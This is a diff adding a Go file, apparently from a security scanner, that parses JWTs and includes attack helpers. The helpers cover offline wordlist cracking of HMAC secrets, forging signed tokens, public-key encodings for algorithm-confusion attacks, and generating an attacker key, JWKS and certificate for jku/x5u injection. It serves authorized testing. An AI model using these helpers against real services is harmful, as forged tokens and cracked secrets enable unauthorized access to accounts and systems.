@@ -0,0 +1,267 @@
+package jwt
+
+import (
+	"crypto"
+	"crypto/hmac"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/sha512"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"hash"
+	"math/big"
+	"regexp"
+	"strings"
+	"time"
+)
+
+// tokenPattern JWT的紧凑序列化形式：头部和载荷都是以 {" 开头的JSON，签名段可以为空
+var tokenPattern = regexp.MustCompile(`eyJ[A-Za-z0-9_-]{5,}\.eyJ[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]*`)
+
+// Token 解码后的JWT
+type Token struct {
+	Raw        string
+	Header     map[string]interface{}
+	Claims     map[string]interface{}
+	HeaderB64  string
+	PayloadB64 string
+	Signature  []byte
+}
+
+// ParseToken 解码JWT，不校验签名
+func ParseToken(raw string) (*Token, error) {
+	segments := strings.Split(raw, ".")
+	if len(segments) != 3 {
+		return nil, fmt.Errorf("JWT应包含3段，实际为%d段", len(segments))
+	}
+
+	token := &Token{Raw: raw, HeaderB64: segments[0], PayloadB64: segments[1]}
+	if err := decodeSegment(segments[0], &token.Header); err != nil {
+		return nil, fmt.Errorf("解码JWT头部失败: %w", err)
+	}
+	if err := decodeSegment(segments[1], &token.Claims); err != nil {
+		return nil, fmt.Errorf("解码JWT载荷失败: %w", err)
+	}
+	if _, ok := token.Header["alg"].(string); !ok {
+		return nil, fmt.Errorf("JWT头部缺少alg")
+	}
+
+	signature, err := base64.RawURLEncoding.DecodeString(segments[2])
+	if err != nil {
+		return nil, fmt.Errorf("解码JWT签名失败: %w", err)
+	}
+	token.Signature = signature
+	return token, nil
+}
+
+// decodeSegment 解码base64url编码的JSON段
+func decodeSegment(segment string, v interface{}) error {
+	data, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(segment, "="))
+	if err != nil {
+		return err
+	}
+	return json.Unmarshal(data, v)
+}
+
+// encodeSegment 编码JSON段
+func encodeSegment(v interface{}) string {
+	data, _ := json.Marshal(v)
+	return base64.RawURLEncoding.EncodeToString(data)
+}
+
+// Alg 签名算法
+func (t *Token) Alg() string {
+	alg, _ := t.Header["alg"].(string)
+	return alg
+}
+
+// SigningInput 签名输入（头部.载荷）
+func (t *Token) SigningInput() string {
+	return t.HeaderB64 + "." + t.PayloadB64
+}
+
+// HeaderJSON 头部的JSON文本，用于证据
+func (t *Token) HeaderJSON() string {
+	data, _ := json.Marshal(t.Header)
+	return string(data)
+}
+
+// ClaimsJSON 载荷的JSON文本，用于证据
+func (t *Token) ClaimsJSON() string {
+	data, _ := json.Marshal(t.Claims)
+	return string(data)
+}
+
+// withHeader 复制原头部并按overrides修改，值为nil时删除该字段
+func (t *Token) withHeader(overrides map[string]interface{}) string {
+	header := make(map[string]interface{}, len(t.Header)+len(overrides))
+	for k, v := range t.Header {
+		header[k] = v
+	}
+	for k, v := range overrides {
+		if v == nil {
+			delete(header, k)
+		} else {
+			header[k] = v
+		}
+	}
+	return encodeSegment(header)
+}
+
+// hmacHash HS系列算法对应的哈希函数，非HMAC算法返回nil
+func hmacHash(alg string) func() hash.Hash {
+	switch strings.ToUpper(alg) {
+	case "HS256":
+		return sha256.New
+	case "HS384":
+		return sha512.New384
+	case "HS512":
+		return sha512.New
+	default:
+		return nil
+	}
+}
+
+// signHMAC 以HMAC算法签名，返回完整令牌
+func signHMAC(alg, headerB64, payloadB64 string, secret []byte) string {
+	input := headerB64 + "." + payloadB64
+	mac := hmac.New(hmacHash(alg), secret)
+	mac.Write([]byte(input))
+	return input + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
+}
+
+// signRS256 以RSA私钥签名，返回完整令牌
+func signRS256(headerB64, payloadB64 string, key *rsa.PrivateKey) (string, error) {
+	input := headerB64 + "." + payloadB64
+	digest := sha256.Sum256([]byte(input))
+	signature, err := rsa.SignPKCS1v15(rand.Reader, key, crypto.SHA256, digest[:])
+	if err != nil {
+		return "", fmt.Errorf("RSA签名失败: %w", err)
+	}
+	return input + "." + base64.RawURLEncoding.EncodeToString(signature), nil
+}
+
+// crackSecret 用字典离线爆破HMAC密钥，匹配时返回密钥
+func crackSecret(token *Token, wordlist []string) (string, bool) {
+	newHash := hmacHash(token.Alg())
+	if newHash == nil || len(token.Signature) == 0 {
+		return "", false
+	}
+
+	input := []byte(token.SigningInput())
+	for _, secret := range wordlist {
+		mac := hmac.New(newHash, []byte(secret))
+		mac.Write(input)
+		if hmac.Equal(mac.Sum(nil), token.Signature) {
+			return secret, true
+		}
+	}
+	return "", false
+}
+
+// jwk JWKS中的一个RSA公钥
+type jwk struct {
+	Kty string `json:"kty"`
+	Kid string `json:"kid"`
+	Use string `json:"use"`
+	Alg string `json:"alg"`
+	N   string `json:"n"`
+	E   string `json:"e"`
+}
+
+// jwkSet JWKS文档
+type jwkSet struct {
+	Keys []jwk `json:"keys"`
+}
+
+// parseJWKS 解析JWKS中的RSA公钥
+func parseJWKS(data []byte) (map[string]*rsa.PublicKey, error) {
+	var set jwkSet
+	if err := json.Unmarshal(data, &set); err != nil {
+		return nil, fmt.Errorf("解析JWKS失败: %w", err)
+	}
+
+	keys := make(map[string]*rsa.PublicKey)
+	for _, key := range set.Keys {
+		if key.Kty != "RSA" || key.N == "" || key.E == "" {
+			continue
+		}
+		n, errN := base64.RawURLEncoding.DecodeString(strings.TrimRight(key.N, "="))
+		e, errE := base64.RawURLEncoding.DecodeString(strings.TrimRight(key.E, "="))
+		if errN != nil || errE != nil {
+			continue
+		}
+		keys[key.Kid] = &rsa.PublicKey{
+			N: new(big.Int).SetBytes(n),
+			E: int(new(big.Int).SetBytes(e).Int64()),
+		}
+	}
+	if len(keys) == 0 {
+		return nil, fmt.Errorf("JWKS中没有RSA公钥")
+	}
+	return keys, nil
+}
+
+// publicKeyEncodings 密钥混淆攻击中服务端可能用作HMAC密钥的公钥PEM形式
+func publicKeyEncodings(key *rsa.PublicKey) [][]byte {
+	var encodings [][]byte
+
+	if der, err := x509.MarshalPKIXPublicKey(key); err == nil {
+		block := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
+		encodings = append(encodings, block, []byte(strings.TrimSuffix(string(block), "\n")))
+	}
+	block := pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(key)})
+	encodings = append(encodings, block, []byte(strings.TrimSuffix(string(block), "\n")))
+
+	return encodings
+}
+
+// attackerKey 扫描器生成的RSA密钥及对应的JWKS与自签名证书，用于jku/x5u注入
+type attackerKey struct {
+	private *rsa.PrivateKey
+	kid     string
+	jwks    []byte
+	certPEM []byte
+}
+
+// newAttackerKey 生成攻击者密钥
+func newAttackerKey() (*attackerKey, error) {
+	private, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		return nil, fmt.Errorf("生成RSA密钥失败: %w", err)
+	}
+
+	kid := "drscan"
+	jwks, _ := json.Marshal(jwkSet{Keys: []jwk{{
+		Kty: "RSA",
+		Kid: kid,
+		Use: "sig",
+		Alg: "RS256",
+		N:   base64.RawURLEncoding.EncodeToString(private.N.Bytes()),
+		E:   base64.RawURLEncoding.EncodeToString(big.NewInt(int64(private.E)).Bytes()),
+	}}})
+
+	template := &x509.Certificate{
+		SerialNumber: big.NewInt(time.Now().UnixNano()),
+		Subject:      pkix.Name{CommonName: "drscan"},
+		NotBefore:    time.Now().Add(-time.Hour),
+		NotAfter:     time.Now().Add(24 * time.Hour),
+		KeyUsage:     x509.KeyUsageDigitalSignature,
+	}
+	der, err := x509.CreateCertificate(rand.Reader, template, template, &private.PublicKey, private)
+	if err != nil {
+		return nil, fmt.Errorf("生成自签名证书失败: %w", err)
+	}
+
+	return &attackerKey{
+		private: private,
+		kid:     kid,
+		jwks:    jwks,
+		certPEM: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}),
+	}, nil
+}